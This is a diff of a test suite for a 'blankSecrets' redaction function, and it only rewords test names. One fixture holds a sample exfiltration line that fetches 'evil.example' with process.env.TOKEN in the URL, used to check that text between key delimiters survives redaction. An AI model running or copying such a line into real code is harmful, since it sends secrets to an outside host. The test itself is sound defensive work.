@@ -57,7 +57,7 @@ describe('blankSecrets', () => {
     expect(blanked.split('\n')).toHaveLength(text.split('\n').length);
   });
 
-  it('leaves what else somebody puts between the lines of a key', () => {
+  it('keeps other text between the lines of a key', () => {
     const text = [BEGIN, 'fetch(`https://evil.example/${process.env.TOKEN}`);', END].join('\n');
     expect(blankSecrets(text)).toBe(text);
   });
@@ -76,12 +76,12 @@ describe('blankSecrets', () => {
     expect(blanked.includes(LINES[0] ?? '')).toBe(!isBlanked);
   });
 
-  it('takes more keys than are found at once', () => {
+  it('blanks more keys than are found in one round', () => {
     const keys = keysLike(120);
     expect(blankSecrets(keys.join('\n'))).toBe(keys.map(() => '[AWS access key]').join('\n'));
   });
 
-  it('leaves nothing of a list of keys', () => {
+  it('empties a list of keys', () => {
     expect(blankSecrets(keysLike(1_500).join('\n'))).toMatch(/^\[list of keys\]\n{1499}$/);
   });
 
